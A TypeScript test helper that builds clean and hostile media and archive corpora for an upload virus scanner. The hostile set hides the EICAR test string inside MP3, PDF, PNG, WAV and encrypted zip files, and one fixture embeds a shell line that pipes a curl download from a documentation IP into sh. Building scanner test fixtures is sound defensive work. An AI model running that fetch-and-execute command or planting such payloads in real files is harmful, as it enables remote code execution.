/**
 * Scanner test corpora made at test time by real Debian tools (sox, lame, flac, oggenc, opusenc, ffmpeg, convert,
 * gs, qpdf, zip, gzip), cached in one temporary directory per test process.
 *
 * - `cleanCorpus()`: several files per allowed upload type, as the tools write them (metadata chunks, tags,
 *   pictures, incremental updates included). Every one must scan CLEAN.
 * - `hostileCorpus()`: variants derived from those real files that hide content (archives with EICAR after an
 *   ID3 tag, after a PDF's %%EOF, inside a WAV data chunk; an encrypted entry; a script after an ID3 header) or
 *   break the structure (trailing bytes, truncation). Every one must scan SUSPICIOUS or INFECTED.
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';

import { eicarBytes } from '../../core/scan/eicar';

export interface CorpusFile {
  /** File name (its extension matches the type). */
  readonly name: string;
  readonly path: string;
  /** The tool (and options) that made it, for the report table. */
  readonly tool: string;
  /** Content-Type an uploader would declare. */
  readonly type: string;
}

export interface HostileFile extends CorpusFile {
  /** What the file hides or breaks. */
  readonly description: string;
  readonly expected: 'SUSPICIOUS' | 'INFECTED';
  /** The verdict's reason must match. */
  readonly reason: RegExp;
}

let root: string | undefined;

function corpusDir(kind: string): string {
  if (root === undefined) {
    const dir = mkdtempSync(path.join(tmpdir(), 'stowage-media-corpus-'));
    process.once('exit', () => rmSync(dir, { recursive: true, force: true }));
    root = dir;
  }
  const dir = path.join(root, kind);
  mkdirSync(dir, { recursive: true });
  return dir;
}

function run(command: string, args: readonly string[], cwd?: string): void {
  execFileSync(command, args, { stdio: ['ignore', 'ignore', 'pipe'], ...(cwd ? { cwd } : {}) });
}

const FF = ['-hide_banner', '-loglevel', 'error', '-y'];

let clean: CorpusFile[] | undefined;

/** Builds (once per process) the clean corpus: every file must scan CLEAN. */
export function cleanCorpus(): readonly CorpusFile[] {
  if (clean) return clean;
  const dir = corpusDir('clean');
  const out = (name: string) => path.join(dir, name);
  const files: CorpusFile[] = [];
  const add = (name: string, type: string, tool: string, make: () => void) => {
    make();
    files.push({ name, path: out(name), tool, type });
  };

  // Sources for the encoders.
  run('sox', [
    '-n',
    '-r',
    '44100',
    '-c',
    '2',
    '-b',
    '16',
    out('src.wav'),
    'synth',
    '2',
    'sine',
    '440',
    'sine',
    '660',
  ]);
  run('convert', ['-size', '64x48', 'gradient:red-blue', out('picture.png')]);

  // WAV
  add('tone-8k-mono.wav', 'audio/wav', 'sox synth 8 kHz mono', () =>
    run('sox', ['-n', '-r', '8000', '-c', '1', out('tone-8k-mono.wav'), 'synth', '1', 'sine', '440']),
  );
  add('noise-24bit.wav', 'audio/wav', 'sox synth 24-bit stereo', () =>
    run('sox', [
      '-n',
      '-r',
      '48000',
      '-c',
      '2',
      '-b',
      '24',
      out('noise-24bit.wav'),
      'synth',
      '1',
      'pinknoise',
    ]),
  );
  add('ffmpeg-tagged.wav', 'audio/wav', 'ffmpeg pcm_s16le + LIST/INFO', () =>
    run('ffmpeg', [...FF, '-i', out('src.wav'), '-metadata', 'title=Tagged', out('ffmpeg-tagged.wav')]),
  );
  add('odd-chunk.wav', 'audio/wav', 'sox 8-bit mono (odd data size)', () =>
    run('sox', [
      '-n',
      '-r',
      '8000',
      '-c',
      '1',
      '-b',
      '8',
      out('odd-chunk.wav'),
      'synth',
      '0.0001251',
      'sine',
      '300',
    ]),
  );

  // MP3
  add('lame-id3v2.mp3', 'audio/mpeg', 'lame --add-id3v2', () =>
    run('lame', [
      '--quiet',
      '--add-id3v2',
      '--tt',
      'Title',
      '--ta',
      'Artist',
      out('src.wav'),
      out('lame-id3v2.mp3'),
    ]),
  );
  add('lame-id3v1.mp3', 'audio/mpeg', 'lame --id3v1-only', () =>
    run('lame', ['--quiet', '--id3v1-only', '--tt', 'Title', out('src.wav'), out('lame-id3v1.mp3')]),
  );
  add('lame-plain.mp3', 'audio/mpeg', 'lame -V 4 (Xing/LAME header, no tag)', () =>
    run('lame', ['--quiet', '-V', '4', out('src.wav'), out('lame-plain.mp3')]),
  );
  add('ffmpeg-both-tags.mp3', 'audio/mpeg', 'ffmpeg libmp3lame ID3v2 + ID3v1', () =>
    run('ffmpeg', [
      ...FF,
      '-i',
      out('src.wav'),
      '-c:a',
      'libmp3lame',
      '-b:a',
      '64k',
      '-write_id3v1',
      '1',
      '-metadata',
      'title=Both',
      out('ffmpeg-both-tags.mp3'),
    ]),
  );
  add('ffmpeg-cover.mp3', 'audio/mpeg', 'ffmpeg libmp3lame + APIC picture', () =>
    run('ffmpeg', [
      ...FF,
      '-i',
      out('src.wav'),
      '-i',
      out('picture.png'),
      '-map',
      '0:a',
      '-map',
      '1:v',
      '-c:a',
      'libmp3lame',
      '-c:v',
      'copy',
      '-id3v2_version',
      '3',
      out('ffmpeg-cover.mp3'),
    ]),
  );

  // FLAC
  add('plain.flac', 'audio/flac', 'flac -8', () =>
    run('flac', ['--silent', '-8', '-f', '-o', out('plain.flac'), out('src.wav')]),
  );
  add('picture-tags.flac', 'audio/flac', 'flac --picture --tag + padding', () =>
    run('flac', [
      '--silent',
      '-f',
      '--picture',
      out('picture.png'),
      '-T',
      'TITLE=Pic',
      '-P',
      '8192',
      '-o',
      out('picture-tags.flac'),
      out('src.wav'),
    ]),
  );
  add('ffmpeg.flac', 'audio/flac', 'ffmpeg flac', () =>
    run('ffmpeg', [...FF, '-i', out('src.wav'), '-c:a', 'flac', out('ffmpeg.flac')]),
  );

  // Ogg
  add('vorbis.ogg', 'audio/ogg', 'oggenc -q 3 -t', () =>
    run('oggenc', ['--quiet', '-q', '3', '-t', 'Title', '-o', out('vorbis.ogg'), out('src.wav')]),
  );
  add('speech.opus', 'audio/ogg', 'opusenc --title', () =>
    run('opusenc', ['--quiet', '--title', 'Title', out('src.wav'), out('speech.opus')]),
  );
  add('ffmpeg-vorbis.ogg', 'audio/ogg', 'ffmpeg libvorbis', () =>
    run('ffmpeg', [...FF, '-i', out('src.wav'), '-c:a', 'libvorbis', out('ffmpeg-vorbis.ogg')]),
  );

  // WebM / Matroska
  add('opus.webm', 'audio/webm', 'ffmpeg libopus webm', () =>
    run('ffmpeg', [...FF, '-i', out('src.wav'), '-c:a', 'libopus', '-b:a', '48k', out('opus.webm')]),
  );
  add('vorbis.webm', 'audio/webm', 'ffmpeg libvorbis webm + title', () =>
    run('ffmpeg', [
      ...FF,
      '-i',
      out('src.wav'),
      '-c:a',
      'libvorbis',
      '-metadata',
      'title=T',
      out('vorbis.webm'),
    ]),
  );
  add('vp8-opus.webm', 'audio/webm', 'ffmpeg vp8 + opus webm (video track)', () =>
    run('ffmpeg', [
      ...FF,
      '-f',
      'lavfi',
      '-i',
      'testsrc=size=64x48:rate=10:duration=1',
      '-i',
      out('src.wav'),
      '-c:v',
      'libvpx',
      '-b:v',
      '100k',
      '-c:a',
      'libopus',
      '-shortest',
      out('vp8-opus.webm'),
    ]),
  );

  add(
    'piped-live.webm',
    'audio/webm',
    'ffmpeg libopus webm to a pipe (unknown-size Segment/Clusters)',
    () => {
      const webm = execFileSync(
        'ffmpeg',
        [...FF, '-i', out('src.wav'), '-c:a', 'libopus', '-f', 'webm', 'pipe:1'],
        {
          maxBuffer: 1 << 26,
          stdio: ['ignore', 'pipe', 'pipe'],
        },
      );
      writeFileSync(out('piped-live.webm'), webm);
    },
  );
  add(
    'live-clusters.webm',
    'audio/webm',
    'ffmpeg pipe, Cluster sizes unknown (as MediaRecorder writes them)',
    () =>
      writeFileSync(out('live-clusters.webm'), withUnknownClusterSizes(readFileSync(out('piped-live.webm')))),
  );
  add('matroska.mkv', 'video/x-matroska', 'ffmpeg flac in mkv', () =>
    run('ffmpeg', [...FF, '-i', out('src.wav'), '-c:a', 'flac', out('matroska.mkv')]),
  );

  // MP4 / M4A
  add('aac.m4a', 'audio/mp4', 'ffmpeg aac m4a', () =>
    run('ffmpeg', [...FF, '-i', out('src.wav'), '-c:a', 'aac', '-b:a', '64k', out('aac.m4a')]),
  );
  add('faststart.m4a', 'audio/mp4', 'ffmpeg aac m4a +faststart + title', () =>
    run('ffmpeg', [
      ...FF,
      '-i',
      out('src.wav'),
      '-c:a',
      'aac',
      '-movflags',
      '+faststart',
      '-metadata',
      'title=T',
      out('faststart.m4a'),
    ]),
  );
  add('video.mp4', 'audio/mp4', 'ffmpeg mpeg4 + aac mp4', () =>
    run('ffmpeg', [
      ...FF,
      '-f',
      'lavfi',
      '-i',
      'testsrc=size=64x48:rate=10:duration=1',
      '-i',
      out('src.wav'),
      '-c:v',
      'mpeg4',
      '-c:a',
      'aac',
      '-shortest',
      out('video.mp4'),
    ]),
  );

  // AAC (ADTS)
  add('adts.aac', 'audio/aac', 'ffmpeg aac -f adts', () =>
    run('ffmpeg', [...FF, '-i', out('src.wav'), '-c:a', 'aac', '-b:a', '96k', '-f', 'adts', out('adts.aac')]),
  );
  add('mono.aac', 'audio/aac', 'ffmpeg aac mono 22 kHz -f adts', () =>
    run('ffmpeg', [
      ...FF,
      '-i',
      out('src.wav'),
      '-ac',
      '1',
      '-ar',
      '22050',
      '-c:a',
      'aac',
      '-f',
      'adts',
      out('mono.aac'),
    ]),
  );

  // PDF
  writeFileSync(
    out('page.ps'),
    '%!PS\n/Helvetica findfont 24 scalefont setfont 72 700 moveto (Stowage) show showpage\n',
  );
  add('gs.pdf', 'application/pdf', 'gs pdfwrite', () =>
    run('gs', [
      '-q',
      '-dBATCH',
      '-dNOPAUSE',
      '-dSAFER',
      '-sDEVICE=pdfwrite',
      `-sOutputFile=${out('gs.pdf')}`,
      out('page.ps'),
    ]),
  );
  add('qpdf-linearized.pdf', 'application/pdf', 'qpdf --linearize', () =>
    run('qpdf', ['--linearize', out('gs.pdf'), out('qpdf-linearized.pdf')]),
  );
  add('qpdf-qdf.pdf', 'application/pdf', 'qpdf --qdf --object-streams=disable', () =>
    run('qpdf', ['--qdf', '--object-streams=disable', out('gs.pdf'), out('qpdf-qdf.pdf')]),
  );
  add(
    'incremental.pdf',
    'application/pdf',
    'qpdf + appended incremental update (checked by qpdf --check)',
    () => {
      writeFileSync(out('incremental.pdf'), incrementalUpdate(readFileSync(out('qpdf-qdf.pdf'))));
      run('qpdf', ['--check', out('incremental.pdf')]);
    },
  );

  // PNG
  add('gradient.png', 'image/png', 'convert gradient', () =>
    run('convert', ['-size', '80x60', 'gradient:', out('gradient.png')]),
  );
  add('text-chunks.png', 'image/png', 'convert + tEXt comment/label, 16-bit', () =>
    run('convert', [
      '-size',
      '40x30',
      'plasma:',
      '-depth',
      '16',
      '-set',
      'comment',
      'hello',
      '-set',
      'label',
      'x',
      out('text-chunks.png'),
    ]),
  );
  add('palette.png', 'image/png', 'convert palette PNG8', () =>
    run('convert', ['-size', '40x30', 'xc:green', `PNG8:${out('palette.png')}`]),
  );

  // JPEG
  add('photo.jpg', 'image/jpeg', 'convert + comment', () =>
    run('convert', ['-size', '80x60', 'plasma:', '-set', 'comment', 'a comment', out('photo.jpg')]),
  );
  add('progressive.jpg', 'image/jpeg', 'convert -interlace Plane', () =>
    run('convert', ['-size', '80x60', 'gradient:', '-interlace', 'Plane', out('progressive.jpg')]),
  );
  add('ffmpeg.jpg', 'image/jpeg', 'ffmpeg mjpeg frame', () =>
    run('ffmpeg', [...FF, '-f', 'lavfi', '-i', 'testsrc=size=64x48', '-frames:v', '1', out('ffmpeg.jpg')]),
  );

  // Archives
  writeFileSync(out('notes.txt'), 'Stowage test notes\n'.repeat(200));
  add('deflated.zip', 'application/zip', 'zip -9 (deflate) of text and audio', () =>
    run('zip', ['-q', '-9', 'deflated.zip', 'notes.txt', 'tone-8k-mono.wav'], dir),
  );
  add('stored-comment.zip', 'application/zip', 'zip -0 -z (stored, with comment)', () =>
    execFileSync('zip', ['-q', '-0', '-z', 'stored-comment.zip', 'notes.txt', 'plain.flac'], {
      cwd: dir,
      input: 'archive comment\n',
      stdio: ['pipe', 'ignore', 'pipe'],
    }),
  );
  add('streamed.zip', 'application/zip', 'zip - (streamed to a pipe: data descriptors)', () => {
    const zipped = execFileSync('zip', ['-q', '-', 'notes.txt', 'gs.pdf'], { cwd: dir, maxBuffer: 1 << 26 });
    writeFileSync(out('streamed.zip'), zipped);
  });
  add('notes.txt.gz', 'application/gzip', 'gzip -9', () => {
    writeFileSync(out('notes.txt.gz'), execFileSync('gzip', ['-9', '-c', out('notes.txt')]));
  });
  add('audio.wav.gz', 'application/gzip', 'gzip -n -1', () => {
    writeFileSync(out('audio.wav.gz'), execFileSync('gzip', ['-n', '-1', '-c', out('tone-8k-mono.wav')]));
  });
  add('members.gz', 'application/gzip', 'cat of two gzip members', () => {
    const a = execFileSync('gzip', ['-c', out('notes.txt')]);
    const b = execFileSync('gzip', ['-c', out('page.ps')]);
    writeFileSync(out('members.gz'), Buffer.concat([a, b]));
  });

  clean = files;
  return files;
}

/**
 * Appends a legal incremental update to a PDF with a classic xref table: a new Info dictionary, an xref section
 * for it and a trailer pointing back (/Prev) at the previous xref.
 */
function incrementalUpdate(pdf: Buffer): Buffer {
  const text = pdf.toString('latin1');
  const prevXref = Number(/startxref\s+(\d+)\s+%%EOF\s*$/.exec(text)?.[1]);
  const size = Number(/\/Size (\d+)/.exec(text)?.[1]);
  const rootRef = /\/Root (\d+ \d+ R)/.exec(text)?.[1];
  if (!Number.isFinite(prevXref) || !Number.isFinite(size) || !rootRef) {
    throw new Error('incrementalUpdate needs a PDF with a classic xref table');
  }
  const base = pdf.length;
  const object = `${size} 0 obj\n<< /Title (Updated) /Producer (stowage test) >>\nendobj\n`;
  const xrefAt = base + object.length;
  const update =
    object +
    `xref\n${size} 1\n${String(base).padStart(10, '0')} 00000 n \n` +
    `trailer\n<< /Size ${size + 1} /Root ${rootRef} /Info ${size} 0 R /Prev ${prevXref} >>\n` +
    `startxref\n${xrefAt}\n%%EOF\n`;
  return Buffer.concat([pdf, Buffer.from(update, 'latin1')]);
}

/** The WebM with every Cluster's size replaced by the "unknown" marker of the same length (a live recording). */
function withUnknownClusterSizes(webm: Buffer): Buffer {
  const copy = Buffer.from(webm);
  const cluster = Buffer.from([0x1f, 0x43, 0xb6, 0x75]);
  for (let at = copy.indexOf(cluster); at !== -1; at = copy.indexOf(cluster, at + 4)) {
    const length = Math.clz32(copy[at + 4]!) - 23;
    copy[at + 4] = 0xff >> (length - 1);
    copy.fill(0xff, at + 5, at + 4 + length);
  }
  return copy;
}

let hostile: HostileFile[] | undefined;

/** Removes the corpus directory (call in `afterAll`: jest workers may end without running exit handlers). */
export function removeMediaCorpus(): void {
  if (root !== undefined) rmSync(root, { recursive: true, force: true });
  root = undefined;
  clean = undefined;
  hostile = undefined;
}

/** Builds (once per process) the hostile corpus from the clean one. */
export function hostileCorpus(): readonly HostileFile[] {
  if (hostile) return hostile;
  const cleanFiles = new Map(cleanCorpus().map((file) => [file.name, file]));
  const source = (name: string) => readFileSync(cleanFiles.get(name)!.path);
  const dir = corpusDir('hostile');
  const out = (name: string) => path.join(dir, name);
  const files: HostileFile[] = [];
  const add = (file: Omit<HostileFile, 'path'>, bytes: Buffer) => {
    writeFileSync(out(file.name), bytes);
    files.push({ ...file, path: out(file.name) });
  };

  // EICAR padded so zip and gzip deflate it: the plain string then appears nowhere in the outer file.
  writeFileSync(out('eicar.com'), Buffer.concat([eicarBytes(), Buffer.alloc(4000, 0x20)]));
  run('zip', ['-q', '-9', 'eicar.zip', 'eicar.com'], dir);
  run('zip', ['-q', '-9', '-P', 'secret', 'encrypted.zip', 'eicar.com'], dir);
  const eicarZip = readFileSync(out('eicar.zip'));
  const encryptedZip = readFileSync(out('encrypted.zip'));
  const eicarGz = execFileSync('gzip', ['-9', '-c', out('eicar.com')]);
  const id3 = id3v2Tag(source('lame-id3v2.mp3'));

  add(
    {
      name: 'id3-then-zip.mp3',
      tool: 'lame ID3v2 tag + zip -9 EICAR',
      type: 'audio/mpeg',
      expected: 'INFECTED',
      description: 'zip with EICAR after an ID3 tag',
      reason: /Eicar-Test-Signature found in id3-then-zip\.mp3@\d+!eicar\.com/,
    },
    Buffer.concat([id3, eicarZip]),
  );
  add(
    {
      name: 'pdf-then-gzip.pdf',
      tool: 'gs pdf + gzip -9 EICAR',
      type: 'application/pdf',
      expected: 'INFECTED',
      description: 'gzip with EICAR after %%EOF',
      reason: /Eicar-Test-Signature found in pdf-then-gzip\.pdf@\d+!gunzip/,
    },
    Buffer.concat([source('gs.pdf'), eicarGz]),
  );
  add(
    {
      name: 'png-then-gzip.png',
      tool: 'convert png + gzip -9 EICAR',
      type: 'image/png',
      expected: 'INFECTED',
      description: 'gzip with EICAR after IEND',
      reason: /Eicar-Test-Signature found in png-then-gzip\.png@\d+!gunzip/,
    },
    Buffer.concat([source('gradient.png'), eicarGz]),
  );
  add(
    {
      name: 'gzip-data-chunk.wav',
      tool: 'sox wav, data chunk replaced by gzip -9 EICAR',
      type: 'audio/wav',
      expected: 'INFECTED',
      description: 'gzip as the WAV data chunk',
      reason: /Eicar-Test-Signature found in gzip-data-chunk\.wav@\d+!gunzip/,
    },
    wavWithData(source('tone-8k-mono.wav'), eicarGz),
  );
  add(
    {
      name: 'encrypted.zip',
      tool: 'zip -P',
      type: 'application/zip',
      expected: 'SUSPICIOUS',
      description: 'ZipCrypto entry holding EICAR',
      reason: /cannot inspect: encrypted entry encrypted\.zip!eicar\.com/,
    },
    encryptedZip,
  );
  add(
    {
      name: 'id3-then-encrypted-zip.mp3',
      tool: 'lame ID3v2 tag + zip -P',
      type: 'audio/mpeg',
      expected: 'SUSPICIOUS',
      description: 'encrypted zip after an ID3 tag',
      reason: /cannot inspect: encrypted entry id3-then-encrypted-zip\.mp3@\d+!eicar\.com/,
    },
    Buffer.concat([id3, encryptedZip]),
  );
  const header = Buffer.from([0x49, 0x44, 0x33, 3, 0, 0, 0, 0, 0, 10]);
  add(
    {
      name: 'id3-then-script.mp3',
      tool: '20-byte ID3v2 header + shell script',
      type: 'audio/mpeg',
      expected: 'SUSPICIOUS',
      description: 'shell script after an ID3 header',
      reason: /no MPEG audio frame.*offset 20/,
    },
    Buffer.concat([header, Buffer.alloc(10), Buffer.from('#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n')]),
  );

  // Trailing bytes after, and truncation of, one real file of each allowed type.
  for (const name of [
    'tone-8k-mono.wav',
    'lame-id3v2.mp3',
    'lame-id3v1.mp3',
    'picture-tags.flac',
    'vorbis.ogg',
    'speech.opus',
    'opus.webm',
    'aac.m4a',
    'adts.aac',
    'gs.pdf',
    'text-chunks.png',
    'photo.jpg',
    'deflated.zip',
    'notes.txt.gz',
  ]) {
    const file = cleanFiles.get(name)!;
    const bytes = source(name);
    const ext = path.extname(name);
    const stem = path.basename(name, ext);
    add(
      {
        name: `${stem}-trailing${ext}`,
        tool: `${file.tool} + 64 appended bytes`,
        type: file.type,
        expected: 'SUSPICIOUS',
        description: 'trailing bytes',
        reason: new RegExp(`offset ${bytes.length}\\b`),
      },
      Buffer.concat([
        bytes,
        Buffer.from('#!/bin/sh\necho trailing payload after the real end of the file....\n'),
      ]),
    );
    add(
      {
        name: `${stem}-truncated${ext}`,
        tool: `${file.tool}, cut to 60%`,
        type: file.type,
        expected: 'SUSPICIOUS',
        description: 'truncated',
        reason: /truncated|ends|missing|no end|cut|EOF/i,
      },
      bytes.subarray(0, Math.floor(bytes.length * 0.6)),
    );
  }
  hostile = files;
  return files;
}

/** The ID3v2 tag at the start of an MP3 (header, frames and padding). */
function id3v2Tag(mp3: Buffer): Buffer {
  if (mp3.toString('latin1', 0, 3) !== 'ID3') throw new Error('no ID3v2 tag');
  const size =
    ((mp3[6]! & 0x7f) << 21) | ((mp3[7]! & 0x7f) << 14) | ((mp3[8]! & 0x7f) << 7) | (mp3[9]! & 0x7f);
  return mp3.subarray(0, 10 + size);
}

/** The WAV with its data chunk's content replaced by `data`, chunk and RIFF sizes updated. */
function wavWithData(wav: Buffer, data: Buffer): Buffer {
  let at = 12;
  while (at + 8 <= wav.length && wav.toString('latin1', at, at + 4) !== 'data') {
    const size = wav.readUInt32LE(at + 4);
    at += 8 + size + (size % 2);
  }
  if (at + 8 > wav.length) throw new Error('no data chunk');
  const header = Buffer.from(wav.subarray(0, at + 8));
  const padded = data.length % 2 === 1 ? Buffer.concat([data, Buffer.alloc(1)]) : data;
  header.writeUInt32LE(header.length - 8 + padded.length, 4);
  header.writeUInt32LE(data.length, at + 4);
  return Buffer.concat([header, padded]);
}
